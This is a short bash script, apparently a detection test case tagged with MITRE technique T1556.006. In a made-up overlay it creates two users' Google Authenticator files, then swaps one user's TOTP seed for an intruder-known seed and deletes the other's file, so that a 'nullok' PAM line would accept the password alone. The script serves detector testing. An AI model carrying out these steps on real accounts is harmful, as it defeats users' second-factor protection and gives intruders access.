#!/bin/bash
# Defeat a user's TOTP second factor: replace ~/.google_authenticator with a seed the
# intruder knows (keeping the file's format), then remove another user's so a nullok PAM
# line lets them in with the password alone. Seeds and users are made up, in the overlay.
# technique: T1556.006
# expect: mfa-secret-change
set -eu
mkdir -p /home/alice /home/bob
printf 'JBSWY3DPEHPK3PXPNOTREAL1\n" RATE_LIMIT 3 30\n" TOTP_AUTH\n11111111\n' \
    > /home/alice/.google_authenticator
printf 'NOTAREALSEEDBOBXXXXXXXX1\n" TOTP_AUTH\n' > /home/bob/.google_authenticator
chmod 400 /home/alice/.google_authenticator /home/bob/.google_authenticator
# the intruder's own seed goes in through a temporary file and a rename, as editors do
/usr/bin/python3 - /home/alice/.google_authenticator <<'PY'
import os
import sys

target = sys.argv[1]
tmp = target + ".tmp"
with open(tmp, "w") as f:
    f.write('GEZDGNBVGY3TQOJQNOTREAL2\n" TOTP_AUTH\n')
os.chmod(tmp, 0o400)
os.replace(tmp, target)
PY
rm -f /home/bob/.google_authenticator
ls -la /home/alice
